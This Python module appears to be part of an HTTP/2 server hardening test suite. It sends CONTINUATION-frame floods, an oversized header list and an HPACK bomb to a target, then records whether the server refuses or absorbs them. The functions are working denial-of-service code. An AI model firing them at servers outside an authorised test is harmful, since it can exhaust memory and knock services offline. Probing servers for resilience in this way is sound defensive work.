"""Attacks on header blocks: CONTINUATION floods, an oversized header list, an HPACK bomb."""

from __future__ import annotations

import time

from hpack import NeverIndexedHeaderTuple
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, SettingsFrame

from peer import EMPTY_GRPC_MESSAGE, RawConn, Target, code_name

from .outcome import KIB, MIB, STALL_SECONDS, Outcome, failed, refused, since


# === continuation_flood, continuation_empty ===

# One literal header, never indexed, new name: "x-flood: " + 54 x "a", exactly 64 bytes of HPACK.
FLOOD_HEADER = b"\x10\x07x-flood" + bytes([54]) + b"a" * 54
assert len(FLOOD_HEADER) == 64


def _continuations(target: Target, seconds: float, limit: int, payload: bytes) -> Outcome:
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        advertised = c.setting(SettingsFrame.MAX_HEADER_LIST_SIZE)
        first = HeadersFrame(1, data=c.encoder.encode(target.request_headers()))  # no END_HEADERS
        frame = ContinuationFrame(1, data=payload).serialize()
        c.send(first.serialize())
        sent, how = 0, "ok"
        while sent < limit and not c.ended():
            n = min(1000, limit - sent)
            data = frame * n
            result = c.send(data, stall=STALL_SECONDS)
            sent += result.sent // len(frame)
            how = result.how
            if how != "ok":
                break
            c.pump(seconds=0)
        took = since(start)
        c.pump(seconds=2.0, until=c.ended)
        volume = f"{sent} CONTINUATION frames ({sent * len(payload) // KIB} KiB of header block)"
        limit_text = f"advertised MAX_HEADER_LIST_SIZE={advertised}"
        if c.ended():
            sent_by = f"{volume} sent in {took} by the time it was read"
            return refused(f"{c.describe_end()}; {sent_by}; {limit_text}")
        if how == "stalled":
            return failed(f"the server stopped reading after {volume} but neither refused nor closed")
        return failed(f"absorbed {volume} in {took} with no reaction; {limit_text}")


def continuation_flood(target: Target, seconds: float = 10.0, limit: int = 100_000) -> Outcome:
    """An endless header block: CONTINUATION frames of 64 bytes of literal headers each."""
    return _continuations(target, seconds, limit, FLOOD_HEADER)


def continuation_empty(target: Target, seconds: float = 10.0, limit: int = 100_000) -> Outcome:
    """An endless header block of empty CONTINUATION frames."""
    return _continuations(target, seconds, limit, b"")


# === oversized_headers, hpack_bomb ===


def _one_request(c: RawConn, block: bytes, start: float, what: str) -> Outcome:
    """Send one request with header block `block`, then judge the server's reaction."""
    advertised = c.setting(SettingsFrame.MAX_HEADER_LIST_SIZE)
    body = DataFrame(1, data=EMPTY_GRPC_MESSAGE, flags=["END_STREAM"]).serialize()
    c.send(c.headers_frames(1, block) + body)
    response = lambda: c.responses.get(1)  # noqa: E731
    c.pump(until=lambda: c.ended() or 1 in c.resets or bool(response() and response().ended))
    took = since(start)
    facts = f"{what}; advertised MAX_HEADER_LIST_SIZE={advertised}; {took}"
    r = response()
    if r is not None and r.status == "431":
        reset = f", then RST_STREAM {code_name(c.resets[1])}" if 1 in c.resets else ""
        alive = "connection kept" if not c.ended() else c.describe_end()
        return refused(f"HTTP 431{reset} ({alive}); {facts}")
    if 1 in c.resets:
        return refused(f"RST_STREAM {code_name(c.resets[1])}; {facts}")
    if c.ended():
        return refused(f"{c.describe_end()}; {facts}")
    if r is not None and r.ended:
        return failed(f"the request was served ({r.describe()}); {facts}")
    return failed(f"no reaction within the cap; {facts}")


def oversized_headers(target: Target, seconds: float = 10.0, limit: int = 256 * KIB) -> Outcome:
    """One request whose header list is `limit` bytes of 4 KiB literal headers."""
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        value = b"v" * (4 * KIB - 40)
        count = max(1, limit // (4 * KIB))
        extra = [NeverIndexedHeaderTuple(f"x-big-{i}".encode(), value) for i in range(count)]
        block = c.encoder.encode(target.request_headers()) + c.encoder.encode(extra, huffman=False)
        return _one_request(c, block, start, f"{count} headers, {len(block) // KIB} KiB on the wire")


def hpack_bomb(target: Target, seconds: float = 10.0, limit: int = 12_000) -> Outcome:
    """A 4 KB dynamic-table entry referenced `limit` times (0xBE = dynamic index 62)."""
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        block = c.encoder.encode(target.request_headers())
        # Literal with incremental indexing: it becomes the newest dynamic entry, index 62.
        block += c.encoder.encode([(b"x-bomb", b"b" * 4000)], huffman=False)
        block += b"\xbe" * limit
        decoded = limit * (len("x-bomb") + 4000 + 32)
        what = f"{len(block) // KIB} KiB on the wire, {decoded // MIB} MiB decoded"
        return _one_request(c, block, start, what)
